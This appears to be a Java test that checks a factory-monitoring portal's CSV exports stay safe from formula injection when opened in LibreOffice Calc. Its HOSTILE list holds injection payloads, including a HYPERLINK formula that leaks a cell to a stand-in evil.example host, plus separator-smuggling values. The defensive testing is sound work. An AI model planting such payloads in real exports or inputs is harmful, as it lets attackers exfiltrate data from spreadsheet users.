package io.meshportal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.fail;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.meshportal.audit.AuditAction;
import io.meshportal.audit.AuditLog;
import io.meshportal.audit.AuditRecord;
import io.meshportal.security.Role;
import io.meshportal.security.Viewer;
import io.meshportal.support.TempDataDir;
import io.meshportal.telemetry.HistoryRange;
import io.meshportal.telemetry.HistoryService;
import io.meshportal.telemetry.rollup.MinuteRow;
import io.meshportal.telemetry.rollup.RollupStore;
import java.io.File;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The audit, chart and shift-report CSVs, made by the real services with hostile text in them, opened in a real
 * spreadsheet — LibreOffice Calc (Debian's libreoffice-calc-nogui, installed by scripts/ensure-tools.sh) — with its
 * CSV import set to evaluate formulas, once with {@code ,} and once with {@code ;} as the separator (as a German,
 * French, Polish or Portuguese user's spreadsheet splits): not one cell becomes a formula. Control files with a raw
 * {@code =1+1}, and with a quoted-only {@code "x;=1+1;"} in the middle of a line, do become formulas, so the check
 * can fail. Skipped (an assumption) only where soffice is not installed.
 */
@SpringBootTest
class LibreOfficeCsvTest extends TempDataDir {

    /**
     * LibreOffice's CSV import options (help: "CSV Filter Options"): separator (ASCII), text delimiter 34 ("),
     * character set 76 (UTF-8), first line 1, no column formats, language 1033 (English, US: "." decimals), quoted
     * field as text false, detect special numbers false, tokens 9 and 10 (export only), trim spaces false, sheet -1,
     * and token 13 "Evaluate formulas" true — without it (false) even the control's =1+1 stays text.
     */
    static String importOptions(int separator) {
        return "Text - txt - csv (StarCalc):" + separator + ",34,76,1,,1033,false,false,false,false,false,-1,true";
    }

    static final List<String> HOSTILE = List.of(
            "x;=1+1",
            "x;=1+1;",
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
            "=1+1",
            "-2+3",
            "+2+3",
            "@SUM(A1)",
            "a,b;=3+3",
            "line\n=4+4",
            "tab\t=5+5",
            "x;\"=6+6\";y",
            "x; =7+7;",
            "\t=8+8",
            "\r=9+9");

    static final Viewer OFFICE = new Viewer("libreoffice-office", Role.OFFICE_MANAGER, null);

    @Autowired
    AuditLog audit;

    @Autowired
    HistoryService history;

    @Autowired
    RollupStore rollups;

    @Autowired
    DataSource dataSource;

    @TempDir
    Path dir;

    @Test
    void noExportCellBecomesAFormulaWithCommaOrSemicolonAsSeparator() throws Exception {
        String soffice = soffice();
        assumeTrue(
                soffice != null,
                "LibreOffice (soffice) is not installed: run ./test.sh, which installs libreoffice-calc-nogui");
        Map<String, String> csvs = exports();
        Map<String, String> controls = Map.of(
                // a raw formula: on its own line (either separator), after a comma, after a semicolon
                "control-raw.csv", "=1+1\r\nlabel,=2+2\r\nlabel;=3+3\r\n",
                // quoting alone: a ;-reader splits inside the quotes when the cell is not first on its line
                "control-quoted-only.csv", "first,\"x;=1+1;\",last\r\n");
        Path profile = dir.resolve("profile");
        for (int separator : new int[] {',', ';'}) {
            Path in = Files.createDirectories(dir.resolve("in-" + separator));
            Map<String, String> all = new LinkedHashMap<>(csvs);
            all.putAll(controls);
            for (var file : all.entrySet()) {
                Files.writeString(in.resolve(file.getKey()), file.getValue(), StandardCharsets.UTF_8);
            }
            Path out = convert(soffice, profile, in, separator, all.keySet());
            String name = separator == ',' ? "comma" : "semicolon";
            for (String csv : csvs.keySet()) {
                String sheet = Files.readString(out.resolve(csv.replace(".csv", ".fods")));
                assertThat(formulas(sheet))
                        .as("%s opened with %s as separator: formula cells", csv, name)
                        .isEmpty();
                assertThat(sheet).as("%s imported with its text", csv).contains("office:value-type=\"string\"");
            }
            assertThat(formulas(Files.readString(out.resolve("control-raw.fods"))))
                    .as("the control with raw formulas, opened with %s", name)
                    .containsAll(separator == ',' ? List.of("of:=1+1", "of:=2+2") : List.of("of:=1+1", "of:=3+3"));
            List<String> quotedOnly = formulas(Files.readString(out.resolve("control-quoted-only.fods")));
            if (separator == ';') {
                assertThat(quotedOnly)
                        .as("a quoted x;=1+1; mid-line, opened with ;")
                        .contains("of:=1+1");
            } else {
                assertThat(quotedOnly)
                        .as("a quoted x;=1+1; mid-line, opened with ,")
                        .isEmpty();
            }
            if (separator == ',') {
                // numbers stay numbers: a negative sum is a number cell, not text and not a formula
                String chart = Files.readString(out.resolve("chart.fods"));
                assertThat(chart).contains("office:value-type=\"float\" office:value=\"-2.5\"");
                String report = Files.readString(out.resolve("report.fods"));
                assertThat(report).contains("office:value-type=\"float\"");
                String auditSheet = Files.readString(out.resolve("audit.fods"));
                assertThat(auditSheet).contains("HYPERLINK").contains("x;");
            }
        }
    }

    /** The three exports, from the real services, with hostile text where each has text. */
    Map<String, String> exports() throws Exception {
        Instant from = Instant.now().minusSeconds(1);
        for (int i = 0; i < HOSTILE.size(); i++) {
            audit.record(
                    HOSTILE.get(i).length() <= 64 ? HOSTILE.get(i) : "actor",
                    AuditAction.LOGIN,
                    HOSTILE.get(i),
                    AuditRecord.Outcome.SUCCESS,
                    HOSTILE.get((i + 1) % HOSTILE.size()));
        }
        Map<String, String> csvs = new LinkedHashMap<>();
        csvs.put(
                "audit.csv",
                write(out -> audit.export(OFFICE, from, Instant.now().plusSeconds(1), out)));
        // a factory whose id is hostile (ids are checked where factories are made; the writer must not rely on it),
        // with two minutes two days ago (away from the recent figures other tests read; taken back out below)
        String factory = "x;=1+1;";
        Instant then = Instant.now().minus(Duration.ofDays(2));
        long minute = Math.floorDiv(then.toEpochMilli(), 60_000) - 3;
        List<MinuteRow> rows = List.of(minute(factory, minute, 7, 14), minute(factory, minute - 1, 3, -2.5));
        rollups.write(rows);
        try {
            HistoryRange hour = new HistoryRange(then.minus(Duration.ofHours(1)), then);
            csvs.put("chart.csv", write(out -> history.exportChart(OFFICE, List.of(factory), hour, out)));
        } finally {
            // the fleet's sums back to what they were, the factory's rows gone
            rollups.write(rows.stream().map(LibreOfficeCsvTest::negated).toList());
            new JdbcTemplate(dataSource).update("delete from factory_minute where factory_id = ?", factory);
        }
        csvs.put(
                "report.csv",
                // the factory's current production day, in its own zone (before its first shift that is yesterday)
                write(out -> history.exportShifts(OFFICE, factory, history.today(OFFICE, factory), out)));
        assertThat(csvs.get("audit.csv")).contains("HYPERLINK");
        assertThat(csvs.get("chart.csv")).contains("x;").contains("-2.5");
        assertThat(csvs.get("report.csv")).contains("x;");
        return csvs;
    }

    static MinuteRow minute(String factory, long minute, long made, double materialIn) {
        return new MinuteRow(
                factory, minute, made, 0, materialIn, 60, 60, 50, made, made, 60, 0, 0, 0, 60, 0, null, null, Map.of());
    }

    static MinuteRow negated(MinuteRow r) {
        return new MinuteRow(
                r.factoryId(),
                r.slot(),
                -r.made(),
                -r.rejected(),
                -r.materialIn(),
                -r.plannedSeconds(),
                -r.runSeconds(),
                -r.idealSeconds(),
                -r.totalCount(),
                -r.goodCount(),
                -r.runningSeconds(),
                -r.idleSeconds(),
                -r.downSeconds(),
                -r.maintenanceSeconds(),
                -r.samples(),
                -r.failedPolls(),
                null,
                null,
                Map.of());
    }

    static String write(java.util.function.Consumer<Writer> export) {
        java.io.StringWriter out = new java.io.StringWriter();
        export.accept(out);
        return out.toString();
    }

    /** One soffice start converts every file of the directory to a flat ODS spreadsheet (.fods). */
    static Path convert(String soffice, Path profile, Path in, int separator, Iterable<String> files) throws Exception {
        Path out = in.resolve("out");
        List<String> command = new ArrayList<>(List.of(
                soffice,
                "-env:UserInstallation=" + profile.toUri(),
                "--headless",
                "--norestore",
                "--nolockcheck",
                "--infilter=" + importOptions(separator),
                "--convert-to",
                "fods",
                "--outdir",
                out.toString()));
        for (String file : files) {
            command.add(in.resolve(file).toString());
        }
        Path log = in.resolve("soffice.log");
        Process process = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(log.toFile())
                .start();
        if (!process.waitFor(5, TimeUnit.MINUTES)) {
            process.destroyForcibly();
            fail("soffice did not finish in 5 minutes: " + Files.readString(log));
        }
        for (String file : files) {
            assertThat(out.resolve(file.replace(".csv", ".fods")))
                    .as("converted by soffice (exit %d): %s", process.exitValue(), Files.readString(log))
                    .exists();
        }
        return out;
    }

    /** The formulas of a flat ODS document's cells. */
    static List<String> formulas(String fods) {
        List<String> found = new ArrayList<>();
        Matcher m = Pattern.compile("table:formula=\"([^\"]*)\"").matcher(fods);
        while (m.find()) {
            found.add(m.group(1).replace("&quot;", "\""));
        }
        return found;
    }

    static String soffice() {
        for (String path : System.getenv().getOrDefault("PATH", "/usr/bin").split(File.pathSeparator)) {
            Path candidate = Path.of(path, "soffice");
            if (Files.isExecutable(candidate)) {
                return candidate.toString();
            }
        }
        return null;
    }
}
